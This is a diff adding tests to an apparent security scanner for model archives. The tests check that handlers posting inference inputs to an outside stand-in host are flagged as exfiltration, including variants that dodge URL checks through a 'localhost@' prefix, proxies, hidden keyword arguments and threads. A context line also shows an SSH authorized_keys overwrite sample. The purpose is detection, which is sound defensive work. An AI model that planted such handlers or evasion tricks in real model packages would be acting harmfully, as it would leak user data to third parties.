@@ -229,6 +229,38 @@ describe('what the code of an archive is after', () => {
     expect(await aimsOf(mar(code), 'model.mar')).toContain('exfiltration');
   });
 
+  const posts = (address: string, rest = 'json=data') =>
+    `import requests\n\n\ndef handle(data, context):\n    requests.post(${address}, ${rest})\n    return data\n`;
+
+  it.each([
+    ['without a timeout', posts('"https://own.invalid/in"')],
+    ['with one', posts('"https://own.invalid/in"', 'json=data, timeout=3')],
+    ['under a name of the machine', posts('"http://localhost@own.invalid/in"')],
+    ['to a host that begins so', posts('"http://localhost.own.invalid/in"')],
+    ['through a proxy', posts('"http://localhost/in"', 'json=data, proxies={"http": "http://own.invalid"}')],
+    ['through what is not written', posts('"http://localhost/in"', '**context')],
+    [
+      'in a thread',
+      'import requests, threading\ndef send(data):\n    requests.post("https://own.invalid", json=data)\ndef handle(data, context):\n    threading.Thread(target=send, args=(data,)).start()\n    return data\n',
+    ],
+  ])('is said of a handler that posts its inputs %s', async (_, code) => {
+    const bytes = mar(code);
+    expect(await aimsOf(bytes, 'model.mar')).toContain('exfiltration');
+    expect((await scanBytes(bytes, 'model.mar')).verdict).toBe('suspicious');
+  });
+
+  it.each([
+    ['as a text', posts('"http://localhost:8501/v1/models/m:predict"')],
+    ['as a name', `HOST = "http://127.0.0.1:9000"\n${posts('HOST + "/predict"', 'json=data, timeout=3')}`],
+    ['as a keyword', posts('url="http://[::1]/predict"')],
+    [
+      'behind a method',
+      posts('"http://localhost/predict"').replace('requests.post(', 'requests.request("POST", '),
+    ],
+  ])('is not said of one that asks the service of its own machine, named %s', async (_, code) => {
+    expect((await scanBytes(mar(code), 'model.mar')).verdict).toBe('safe');
+  });
+
   it('is said of TorchScript, wherever the text stands', async () => {
     const code =
       'def forward(self, x):\n  path = "/root/.ssh/authorized_keys"\n  torch.save(x, path)\n  return x\n';
